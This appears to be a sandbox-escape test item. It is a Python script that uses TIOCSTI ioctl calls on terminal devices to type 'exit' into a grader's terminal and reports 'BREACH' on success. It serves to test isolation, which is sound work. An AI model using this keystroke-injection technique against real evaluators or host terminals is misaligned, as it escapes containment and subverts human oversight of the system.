# Types commands into a terminal of the grader's, for the shell to run later.
# expects: status=ran, points=4
# beside: system
# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ioctl.argtypes = (ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p)
for name in ("/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0", "/dev/vcs", "/proc/self/fd/0"):
    try:
        terminal = os.open(name, os.O_RDWR | os.O_NONBLOCK)
    except OSError:
        continue
    for request in (0x5412, 0x5412 + 2**32, 0x541C):
        for letter in b"exit\n":
            if libc.ioctl(terminal, request, bytes([letter])) == 0:
                print("BREACH: typed into", name)
